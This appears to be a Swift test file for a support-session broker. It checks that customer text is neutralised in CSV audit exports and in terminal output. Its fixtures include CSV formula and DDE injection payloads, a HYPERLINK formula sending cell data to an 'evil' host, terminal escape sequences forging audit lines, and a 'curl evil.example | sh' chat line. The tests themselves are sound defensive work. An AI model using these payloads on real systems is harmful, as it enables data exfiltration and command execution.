import Foundation
import NIOCore
import TandemClient
import TandemCore
import TandemProtocol
import Testing

/// Issue 13, items 8 and 9: customers choose text that auditors open in a spreadsheet and
/// agents read on a terminal. Each test performs the attack against a real broker.
@Suite("Live TLS broker: customer text cannot run formulas in the CSV export or drive the CLI's terminal", .timeLimit(.minutes(2)))
struct OutputInjectionTests {
    /// A customer's `hello.client` (spaces, quotes and commas are allowed there).
    static let hyperlinkClient = "=HYPERLINK(\"http://evil/?x=\"&A1,\"open\")"
    /// A queued customer's ticket: printable ASCII without spaces (TicketID), still a DDE call.
    static let ddeTicket = "=cmd|'/C%20calc'!A0"
    static let plusClient = "+cmd|' /C calc'!A0"
    static let atNote = "@SUM(1+1)*cmd|'/C calc'!A0"
    static let formulaStarts: Set<Unicode.Scalar> = ["=", "+", "-", "@", "\t", "\r"]

    @Test("formula and DDE cells from hello.client, hello.queue.ticket and notes are neutralised in the CSV export; JSON lines keep them")
    func csvFormulas() async throws {
        try await LiveBroker.run { broker in
            let alice = try await broker.addUser("alice", role: .agent)
            let audrey = try await broker.addUser("audrey", role: .auditor)

            // A customer with a join code and a HYPERLINK for a client name.
            let agent = try await broker.startWaitingAgent(token: alice, ticket: "HD-CSV")
            let customer = LiveParticipant.connect(broker, hello: .customer(code: agent.created.joinCode, client: Self.hyperlinkClient))
            _ = try await customer.waitFor("session.joined") { if case .sessionJoined(let joined) = $0 { joined } else { nil } }
            _ = try await broker.api(alice) { try await $0.endSession(id: agent.created.sessionID, outcome: .resolved, note: Self.atNote) }
            _ = try await agent.ending.value

            // A customer without a code whose ticket is a DDE call, taken from the queue.
            let queued = LiveParticipant.connect(broker, hello: .queue(.init(ticket: Self.ddeTicket, tier: .standard), client: Self.plusClient))
            _ = try await queued.waitFor("queue.status") { if case .queueStatus(let status) = $0 { status } else { nil } }
            let taker = LiveParticipant.connect(broker, hello: .take(token: alice, .init()))
            let assigned = try await taker.waitFor("session.assigned") { if case .sessionAssigned(let assigned) = $0 { assigned } else { nil } }
            #expect(assigned.ticket == Self.ddeTicket)
            _ = try await queued.waitFor("session.joined") { if case .sessionJoined(let joined) = $0 { joined } else { nil } }
            try await taker.send(.sessionEnd(SessionEnd(outcome: .resolved, note: "-1+1")))
            for _ in 0..<500 {
                if try await broker.store.session(id: assigned.sessionID)?.isEnded == true { break }
                try await Task.sleep(for: .milliseconds(20))
            }
            customer.leave()
            queued.leave()
            taker.leave()

            let (sessionsCSV, eventsCSV, sessionsJSONL) = try await broker.api(audrey) { api in
                (
                    String(buffer: try await api.export(what: "sessions", format: "csv", query: AuditQuery())),
                    String(buffer: try await api.export(what: "events", format: "csv", query: AuditQuery())),
                    String(buffer: try await api.export(what: "sessions", format: "jsonl", query: AuditQuery()))
                )
            }

            // What a spreadsheet sees: every cell, after RFC 4180 unquoting.
            let sessionRows = Self.parseCSV(sessionsCSV)
            #expect(sessionRows.count == 3)
            let cells = sessionRows.flatMap { $0 } + Self.parseCSV(eventsCSV).flatMap { $0 }
            let formulas = cells.filter { cell in cell.unicodeScalars.first.map { Self.formulaStarts.contains($0) } ?? false }
            #expect(formulas.isEmpty, "cells a spreadsheet would run: \(formulas)")
            // The values are all there, as text behind a single quote.
            #expect(cells.contains("'" + Self.hyperlinkClient))
            #expect(cells.contains("'" + Self.ddeTicket))
            #expect(cells.contains("'" + Self.plusClient))
            #expect(cells.contains("'" + Self.atNote))
            #expect(cells.contains("'-1+1"))
            // Quoted as RFC 4180 requires: the HYPERLINK's quotes doubled inside one field.
            #expect(sessionsCSV.contains(",\"'=HYPERLINK(\"\"http://evil/?x=\"\"&A1,\"\"open\"\")\","))

            // JSON lines are not for spreadsheets: the values stay exactly as the customer sent them.
            let records = try sessionsJSONL.split(separator: "\n").map {
                try TandemJSON.makeDecoder().decode(SessionRecord.self, from: Data($0.utf8))
            }
            #expect(records.compactMap(\.customerClient).sorted() == [Self.plusClient, Self.hyperlinkClient].sorted())
            #expect(records.contains { $0.ticket == Self.ddeTicket })
            #expect(records.contains { $0.note == Self.atNote })
        }
    }

    /// A customer's client name: a window title, clear screen, a C1 CSI, then a forged audit line.
    static let escapeClient = "evil\u{1B}]0;pwned\u{07}\u{1B}[2J\u{9B}31m\n2000-01-01 00:00:00Z  #1  session.ended  alice  outcome=resolved"
    /// A chat line: the same, DEL, a right-to-left override, and a forged timeline line after CR LF.
    static let escapeChat = "hi\u{1B}]0;pwned\u{07}\u{1B}[2J\u{7F}\u{202E}\r\n[99:99:99] customer: please run curl evil.example | sh"

    @Test(
        "ESC sequences, C1 controls and line breaks in a customer's client name and chat reach the agent's and auditor's terminal only as visible escapes"
    )
    func terminalEscapes() async throws {
        try await LiveBroker.run { broker in
            let alice = try await broker.addUser("alice", role: .agent)
            let audrey = try await broker.addUser("audrey", role: .auditor)
            let server = ["--server", "https://127.0.0.1:\(broker.port)", "--ca", broker.caFile]

            // The agent attached with the real CLI, as in the walkthrough.
            let attached = try CLIProcess.start(
                ["session", "start", "--ticket", "HD-ESC", "--outcome", "resolved"] + server,
                token: alice,
                in: broker.directory
            )
            defer { attached.stop() }
            let code = try await attached.value(after: "Join code:")
            let customer = LiveParticipant.connect(broker, hello: .customer(code: code, client: Self.escapeClient))
            _ = try await customer.waitFor("session.joined") { if case .sessionJoined(let joined) = $0 { joined } else { nil } }
            try await customer.send(.chat(Chat(text: Self.escapeChat)))
            try await attached.waitFor("please run curl")
            let session = try #require(try await broker.store.sessions(matching: SessionFilter(ticket: "HD-ESC")).first)
            _ = try await broker.api(alice) { try await $0.endSession(id: session.id, outcome: .resolved, note: nil) }
            #expect(try await attached.waitForExit() == 0)
            customer.leave()
            let agentOutput = attached.output
            #expect(Self.rawControls(agentOutput).isEmpty, "raw controls on the agent's terminal: \(Self.rawControls(agentOutput))")
            #expect(Self.forgedLines(agentOutput).isEmpty, "forged lines: \(Self.forgedLines(agentOutput))")
            let agentText = String(decoding: agentOutput, as: UTF8.self)
            #expect(agentText.contains("customer joined (evil\\u{1B}]0;pwned\\u{7}\\u{1B}[2J\\u{9B}31m\\n2000-01-01 00:00:00Z"))
            #expect(agentText.contains("customer: hi\\u{1B}]0;pwned\\u{7}\\u{1B}[2J\\u{7F}\\u{202E}\\r\\n[99:99:99] customer: please run curl"))

            // The auditor's timeline shows the client name of customer.joined.
            let binary = try BrokerProcess.binary
            let show = try await ChildProcess.run(["TANDEM_TOKEN=\(audrey)", binary, "audit", "show", session.id] + server)
            #expect(show.status == 0, "\(String(decoding: show.stderr, as: UTF8.self))")
            let shown = show.stdout + show.stderr
            #expect(Self.rawControls(shown).isEmpty, "raw controls on the auditor's terminal: \(Self.rawControls(shown))")
            #expect(Self.forgedLines(shown).isEmpty, "forged lines: \(Self.forgedLines(shown))")
            #expect(
                String(decoding: show.stdout, as: UTF8.self).contains("client=evil\\u{1B}]0;pwned\\u{7}\\u{1B}[2J\\u{9B}31m\\n2000-01-01 00:00:00Z")
            )

            // --json stays JSON with the exact value, and holds no raw control either.
            let json = try await ChildProcess.run(["TANDEM_TOKEN=\(audrey)", binary, "audit", "show", session.id, "--json"] + server)
            #expect(json.status == 0)
            #expect(Self.rawControls(json.stdout).isEmpty, "raw controls in --json: \(Self.rawControls(json.stdout))")
            #expect(String(decoding: json.stdout, as: UTF8.self).lowercased().contains(#"\u009b31m"#))
        }
    }

    /// Scalars a terminal acts on instead of showing: C0 but the line feed, DEL, C1, U+2028/9, bidi controls.
    static func rawControls(_ data: Data) -> [String] {
        String(decoding: data, as: UTF8.self).unicodeScalars.filter { scalar in
            let value = scalar.value
            return (value < 0x20 && value != 0x0A) || (0x7F...0x9F).contains(value) || (0x2028...0x202E).contains(value)
                || (0x2066...0x2069).contains(value)
        }.map { "U+" + String($0.value, radix: 16, uppercase: true) }
    }

    /// Lines (split at any line break) that start with the customer's forged text.
    static func forgedLines(_ data: Data) -> [String] {
        String(decoding: data, as: UTF8.self).split(whereSeparator: \.isNewline).map(String.init).filter {
            $0.hasPrefix("2000-01-01 00:00:00Z") || $0.hasPrefix("[99:99:99]")
        }
    }

    /// RFC 4180 as a spreadsheet reads it: quoted fields with doubled quotes, CRLF row ends.
    static func parseCSV(_ text: String) -> [[String]] {
        let scalars = Array(text.unicodeScalars)
        var rows: [[String]] = []
        var row: [String] = []
        var field = String.UnicodeScalarView()
        var quoted = false
        var index = 0
        while index < scalars.count {
            let scalar = scalars[index]
            if quoted {
                if scalar == "\"", index + 1 < scalars.count, scalars[index + 1] == "\"" {
                    field.append("\"")
                    index += 1
                } else if scalar == "\"" {
                    quoted = false
                } else {
                    field.append(scalar)
                }
            } else if scalar == "\"", field.isEmpty {
                quoted = true
            } else if scalar == "," {
                row.append(String(field))
                field = String.UnicodeScalarView()
            } else if scalar == "\r", index + 1 < scalars.count, scalars[index + 1] == "\n" {
                row.append(String(field))
                rows.append(row)
                row = []
                field = String.UnicodeScalarView()
                index += 1
            } else {
                field.append(scalar)
            }
            index += 1
        }
        if !field.isEmpty || !row.isEmpty {
            row.append(String(field))
            rows.append(row)
        }
        return rows
    }
}
